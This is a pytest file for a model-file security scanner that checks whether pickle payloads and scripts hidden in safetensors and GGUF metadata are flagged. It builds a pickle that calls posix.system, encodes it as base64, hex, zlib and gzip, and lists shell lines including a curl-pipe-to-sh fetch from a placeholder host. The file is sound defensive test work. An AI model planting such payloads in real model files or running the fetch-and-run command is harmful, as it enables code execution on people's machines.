"""Payloads hidden in metadata strings (root cause 10): safetensors ``__metadata__`` values
and GGUF string values (and string arrays) that are a pickle, raw or as base64/hex, or
Python source. A tool that ``pickle.loads`` such a value runs it; the scanner reports it
(at least suspicious, malicious when the embedded pickle is). Ordinary metadata, and a
150k-token vocabulary, stay clean and fast.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import pickle
import time
import zlib

import pytest

from tests.fixtures.gguf_builder import ARRAY, STRING, small_model
from tests.fixtures.safetensors_builder import valid_file
from weightscan.scanner.context import ScanContext
from weightscan.scanner.dispatch import analyze
from weightscan.scanner.formats import Format
from weightscan.scanner.limits import DEFAULT_LIMITS
from weightscan.scanner.model import Severity, Verdict
from weightscan.scanner.source import Source

# Built from opcodes, never loaded: posix.system("echo hi")
EVIL = (
    b"\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93"
    b"\x8c\x07echo hi\x94\x85\x94R\x94."
)
EVIL_P0 = b"cos\nsystem\n(S'echo hi'\ntR."
HARMLESS = pickle.dumps({"a": [1, 2, 3]}, protocol=2)  # plain data: still not metadata
SOURCE = "import os\nos.system('echo hi')\n"


def _verdict(ctx: ScanContext) -> Verdict:
    worst = max((f.severity for f in ctx.findings), key=lambda s: s.rank, default=None)
    return Verdict.CLEAN if worst is None else worst.implied_verdict


def _scan(data: bytes, fmt: Format) -> ScanContext:
    ctx = ScanContext.for_file(DEFAULT_LIMITS)
    analyze(Source(io.BytesIO(data)), ctx, fmt)
    return ctx


def _all_findings(ctx: ScanContext):
    return list(ctx.state.findings) if hasattr(ctx.state, "findings") else ctx.findings


def _safetensors(value: str) -> ScanContext:
    return _scan(valid_file({"format": "pt", "extra": value}), Format.SAFETENSORS)


def _gguf_string(value: str | bytes) -> ScanContext:
    b = small_model()
    b.kv("general.extra", STRING, value)
    return _scan(b.build(), Format.GGUF)


def _gguf_array(values: list[str | bytes]) -> ScanContext:
    b = small_model()
    b.kv("general.extra_list", ARRAY, (STRING, values))
    return _scan(b.build(), Format.GGUF)


MALICIOUS_VALUES = {
    "zlib-base64": base64.b64encode(zlib.compress(EVIL)).decode(),
    "gzip-base64": base64.b64encode(gzip.compress(EVIL)).decode(),
    "raw-latin1": EVIL.decode("latin-1"),
    "protocol0": EVIL_P0.decode(),
    "base64": base64.b64encode(EVIL).decode(),
    "base64-p0": base64.b64encode(EVIL_P0).decode(),
    "hex": EVIL.hex(),
}


@pytest.mark.parametrize("name", sorted(MALICIOUS_VALUES))
def test_evil_pickle_in_safetensors_metadata_is_malicious(name):
    ctx = _safetensors(MALICIOUS_VALUES[name])
    assert _verdict(ctx) is Verdict.MALICIOUS, [(f.rule_id, f.message) for f in ctx.findings]
    assert "safetensors.metadata.payload" in {f.rule_id for f in ctx.findings}


@pytest.mark.parametrize("name", sorted(MALICIOUS_VALUES))
def test_evil_pickle_in_gguf_string_is_malicious(name):
    ctx = _gguf_string(MALICIOUS_VALUES[name])
    assert _verdict(ctx) is Verdict.MALICIOUS, [(f.rule_id, f.message) for f in ctx.findings]
    assert "gguf.metadata.payload" in {f.rule_id for f in ctx.findings}


def test_evil_pickle_as_raw_bytes_in_gguf_string_is_malicious():
    assert _verdict(_gguf_string(EVIL)) is Verdict.MALICIOUS


@pytest.mark.parametrize("name", sorted(MALICIOUS_VALUES))
def test_evil_pickle_in_gguf_string_array_is_malicious(name):
    ctx = _gguf_array(["hello", "world", MALICIOUS_VALUES[name], "end"])
    assert _verdict(ctx) is Verdict.MALICIOUS, [(f.rule_id, f.message) for f in ctx.findings]


def test_harmless_pickle_in_metadata_is_suspicious():
    for ctx in (
        _safetensors(base64.b64encode(HARMLESS).decode()),
        _gguf_string(base64.b64encode(HARMLESS).decode()),
    ):
        assert _verdict(ctx) is Verdict.SUSPICIOUS, [(f.rule_id, f.message) for f in ctx.findings]


@pytest.mark.parametrize(
    "script",
    [
        "curl -s http://example.invalid/x.sh | sh",
        "#!/bin/sh\necho hi > /tmp/x\n",
        "bash -c 'echo hi'",
        "python -c \"import os; os.system('echo hi')\"",
    ],
)
def test_shell_commands_in_metadata_are_suspicious(script):
    for ctx in (_safetensors(script), _gguf_string(script)):
        assert ctx.findings, script


def test_python_source_in_metadata_is_suspicious():
    for ctx in (_safetensors(SOURCE), _gguf_string(SOURCE), _gguf_array(["a", SOURCE])):
        worst = max(f.severity.rank for f in ctx.findings)
        assert worst >= Severity.MEDIUM.rank, [(f.rule_id, f.message) for f in ctx.findings]


ORDINARY = [
    "pt",
    "1.0",
    '{"hidden_size": 4096, "architectures": ["LlamaForCausalLM"]}',
    "Apache License 2.0. You may not use this file except in compliance with the License.",
    "A 7B model fine-tuned for chat. Use `import transformers` to load it.",
    "c4",
    "N.",
    "Q4_K_M",
    "llama",
    "3f2a9c",
    "deadbeef" * 2,
    "SGVsbG8gd29ybGQ=",
    '["os", "system"]',
    "from transformers import AutoModel",
]


@pytest.mark.parametrize("value", ORDINARY)
def test_ordinary_metadata_stays_clean(value):
    assert _safetensors(value).findings == []
    assert _gguf_string(value).findings == []


def test_chat_template_prose_in_gguf_is_not_python_source():
    b = small_model()
    b.kv(
        "tokenizer.chat_template",
        STRING,
        "Call os.system or eval( only in examples; import os is prose here.\n"
        "{% for m in messages %}{{ m.content }}{% endfor %}",
    )
    assert _scan(b.build(), Format.GGUF).findings == []


def _vocab(n: int) -> list[str]:
    pieces = ["Ġthe", "ing", ".", "import", "os", "(", ")", "\n", "Ċ", "é", "▁", "c", "N."]
    return [
        pieces[i % len(pieces)] + str(i) if i % 3 else pieces[i % len(pieces)] for i in range(n)
    ]


def test_150k_vocab_stays_clean_and_fast():
    b = small_model()
    b.kv("tokenizer.ggml.merges", ARRAY, (STRING, _vocab(150_000)))
    data = b.build()
    start = time.perf_counter()
    ctx = _scan(data, Format.GGUF)
    elapsed = time.perf_counter() - start
    assert ctx.findings == []
    assert elapsed < 1.0


def test_every_duplicate_metadata_value_is_inspected():
    from tests.fixtures.safetensors_builder import contiguous, make_safetensors

    header, data = contiguous([("w", "F32", [2])], None)
    evil = base64.b64encode(EVIL).decode()
    text = json.dumps(header)[:-1] + ', "__metadata__": {"k": "' + evil + '", "k": "pt"}}'
    ctx = _scan(make_safetensors(text.encode(), data), Format.SAFETENSORS)
    assert _verdict(ctx) is Verdict.MALICIOUS, [(f.rule_id, f.message) for f in ctx.findings]
